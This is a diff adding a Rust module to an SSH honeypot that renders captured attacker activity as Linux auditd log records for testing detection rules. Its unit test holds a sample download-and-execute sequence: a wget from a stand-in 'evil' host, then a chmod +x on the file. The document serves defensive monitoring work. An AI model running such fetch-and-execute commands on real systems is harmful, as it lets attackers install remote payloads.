@@ -0,0 +1,238 @@
+//! Renders audit logs as records in the format written by the Linux audit daemon, so detection
+//! rules written against `auditd` logs can be tested directly against honeypot traffic.
+//!
+//! Each event is rendered as the set of records `auditd` would write for the syscall the client
+//! would have made, all sharing the same `msg=audit(timestamp:serial)` identifier. Process ids
+//! and the session id are synthetic, but stable within a connection.
+
+use std::fmt::Write;
+
+use pisshoff_types::{
+    audit::{AuditLog, AuditLogAction, AuditLogEvent},
+    byte_str::ByteStr,
+};
+
+/// `AUDIT_ARCH_X86_64`, the architecture all syscalls are reported as.
+const ARCH: &str = "c000003e";
+
+/// Syscall numbers on x86-64 for each of the operations we report.
+const SYS_EXECVE: u32 = 59;
+const SYS_MKDIR: u32 = 83;
+const SYS_OPENAT: u32 = 257;
+const SYS_FCHOWNAT: u32 = 260;
+const SYS_FCHMODAT: u32 = 268;
+
+/// Renders every event in the log that has an `auditd` equivalent, one record per line.
+pub fn render(log: &AuditLog) -> String {
+    let mut out = String::new();
+
+    // the login session id auditd assigns to the connection, derived from the connection id so
+    // records from the same connection can be correlated
+    let [a, b, c, d, ..] = *log.connection_id.as_bytes();
+    let session = u32::from_be_bytes([a, b, c, d]) & 0x7fff_ffff;
+
+    for event in &log.events {
+        render_event(&mut out, log, session, event);
+    }
+
+    out
+}
+
+fn render_event(out: &mut String, log: &AuditLog, session: u32, event: &AuditLogEvent) {
+    let ts = log.ts + event.start_offset;
+    let sequence = event.sequence.unwrap_or_default();
+    let msg = format!(
+        "msg=audit({}.{:03}:{})",
+        ts.unix_timestamp(),
+        ts.millisecond(),
+        sequence
+    );
+
+    let syscall = Syscall {
+        msg: &msg,
+        session,
+        pid: session.wrapping_add(u32::try_from(sequence % 32_768).unwrap_or_default()),
+    };
+
+    match &event.action {
+        AuditLogAction::ExecCommand(cmd) => {
+            let line = cmd.command.trim_end();
+            let args = cmd.args.as_deref().map_or_else(
+                || vec![line],
+                |args| args.iter().map(ByteStr::as_str).collect(),
+            );
+            let Some(program) = args.first() else {
+                return;
+            };
+
+            let exe = if program.starts_with('/') {
+                (*program).to_string()
+            } else {
+                format!("/usr/bin/{program}")
+            };
+            let comm = exe.rsplit('/').next().unwrap_or_default();
+
+            syscall.write(out, SYS_EXECVE, 1, comm, &exe);
+
+            write!(out, "type=EXECVE {msg}: argc={}", args.len()).unwrap();
+            for (i, arg) in args.iter().enumerate() {
+                write!(out, " a{i}={}", encode(arg)).unwrap();
+            }
+            out.push('\n');
+
+            writeln!(
+                out,
+                "type=PATH {msg}: item=0 name={} nametype=NORMAL",
+                encode(&exe)
+            )
+            .unwrap();
+            writeln!(
+                out,
+                "type=PROCTITLE {msg}: proctitle={}",
+                hex(args.join("\0").as_bytes())
+            )
+            .unwrap();
+        }
+        AuditLogAction::WriteFile(write) => {
+            syscall.write(out, SYS_OPENAT, 1, "sshd", "/usr/sbin/sshd");
+            writeln!(
+                out,
+                "type=PATH {msg}: item=0 name={} nametype=CREATE",
+                encode(&write.path)
+            )
+            .unwrap();
+        }
+        AuditLogAction::Mkdir(mkdir) => {
+            syscall.write(out, SYS_MKDIR, 1, "mkdir", "/usr/bin/mkdir");
+            writeln!(
+                out,
+                "type=PATH {msg}: item=0 name={} nametype=CREATE",
+                encode(&mkdir.path)
+            )
+            .unwrap();
+        }
+        AuditLogAction::Chmod(chmod) => {
+            syscall.write(out, SYS_FCHMODAT, 1, "chmod", "/usr/bin/chmod");
+            writeln!(
+                out,
+                "type=PATH {msg}: item=0 name={} nametype=NORMAL",
+                encode(&chmod.path)
+            )
+            .unwrap();
+        }
+        AuditLogAction::Chown(chown) => {
+            syscall.write(out, SYS_FCHOWNAT, 1, "chown", "/usr/bin/chown");
+            writeln!(
+                out,
+                "type=PATH {msg}: item=0 name={} nametype=NORMAL",
+                encode(&chown.path)
+            )
+            .unwrap();
+        }
+        _ => {}
+    }
+}
+
+/// Common fields of the `SYSCALL` record preceding the records for each event.
+struct Syscall<'a> {
+    msg: &'a str,
+    session: u32,
+    pid: u32,
+}
+
+impl Syscall<'_> {
+    fn write(&self, out: &mut String, syscall: u32, items: usize, comm: &str, exe: &str) {
+        let Self { msg, session, pid } = self;
+
+        writeln!(
+            out,
+            "type=SYSCALL {msg}: arch={ARCH} syscall={syscall} success=yes exit=0 items={items} \
+             ppid={session} pid={pid} auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 \
+             fsgid=0 tty=pts0 ses={session} comm={} exe={} key=(null)",
+            encode(comm.get(..15).unwrap_or(comm)),
+            encode(exe),
+        )
+        .unwrap();
+    }
+}
+
+/// Encodes an untrusted value the same way `auditd` does, quoting it if it only contains
+/// printable characters other than `"`, or hex encoding it otherwise.
+fn encode(value: &str) -> String {
+    if value
+        .bytes()
+        .any(|c| c == b'"' || !(0x21..=0x7e).contains(&c))
+    {
+        hex(value.as_bytes())
+    } else {
+        format!("\"{value}\"")
+    }
+}
+
+fn hex(value: &[u8]) -> String {
+    value.iter().fold(String::new(), |mut out, c| {
+        write!(out, "{c:02X}").unwrap();
+        out
+    })
+}
+
+#[cfg(test)]
+mod test {
+    use std::time::Duration;
+
+    use pisshoff_types::{
+        audit::{AuditLog, AuditLogAction, AuditLogEvent, ChmodEvent, ExecCommandEvent},
+        byte_str::ByteStr,
+    };
+    use test_case::test_case;
+    use time::macros::datetime;
+    use uuid::Uuid;
+
+    use crate::audit::auditd::{encode, render};
+
+    #[test_case("/tmp/payload", "\"/tmp/payload\""; "printable")]
+    #[test_case("a b", "612062"; "space")]
+    #[test_case("\"", "22"; "quote")]
+    fn encodes(input: &str, expected: &str) {
+        assert_eq!(encode(input), expected);
+    }
+
+    #[test]
+    fn renders() {
+        let log = AuditLog {
+            connection_id: Uuid::from_u128(0x0000_0400_0000_0000_0000_0000_0000_0000),
+            ts: datetime!(2023-06-01 12:00:00 UTC),
+            events: vec![
+                AuditLogEvent {
+                    sequence: Some(7),
+                    start_offset: Duration::from_millis(1500),
+                    action: AuditLogAction::ExecCommand(ExecCommandEvent {
+                        command: "wget 'http://evil/x y'\n".into(),
+                        args: Some(Box::from([
+                            ByteStr::from_static("wget"),
+                            ByteStr::from_static("http://evil/x y"),
+                        ])),
+                        interactive: false,
+                        pty: false,
+                    }),
+                },
+                AuditLogEvent {
+                    sequence: Some(8),
+                    start_offset: Duration::from_secs(2),
+                    action: AuditLogAction::Chmod(ChmodEvent {
+                        path: "x".into(),
+                        mode: "+x".into(),
+                    }),
+                },
+                AuditLogEvent {
+                    sequence: Some(9),
+                    start_offset: Duration::from_millis(2500),
+                    action: AuditLogAction::ShellRequested,
+                },
+            ],
+            ..AuditLog::default()
+        };
+
+        insta::assert_snapshot!(render(&log));
+    }
+}